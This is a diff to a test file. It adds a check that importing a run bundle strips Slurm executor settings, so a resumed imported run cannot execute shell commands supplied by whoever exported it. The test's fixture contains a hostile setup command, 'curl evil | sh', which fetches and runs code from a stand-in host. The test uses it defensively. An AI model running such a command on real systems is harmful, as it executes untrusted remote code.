@@ -97,6 +97,16 @@ describe('all or nothing', () => {
     expect(runFolders(l)).toEqual([l.existingId]);
   });
 
+  it('drops a Slurm executor and profile: a resumed imported run never runs the exporter’s shell', async () => {
+    const l = setup();
+    const config = RunConfigSchema.parse({ datasetId: DATASET.id, model: 'cnn', kind: 'teacher', executor: 'slurm', slurm: { setup: 'curl evil | sh', workerCommand: 'sh -c x' } });
+    const run = runRecord({ status: 'interrupted', config });
+    await l.exports.importBundle(writeBundle(l, bundleOf(validMembers(run))));
+    const stored = getRun(l.db, run.id as string)!.config;
+    expect(stored).not.toHaveProperty('executor');
+    expect(stored).not.toHaveProperty('slurm');
+  });
+
   it('leaves nothing when the target folder is already taken', async () => {
     const l = setup();
     const run = runRecord();
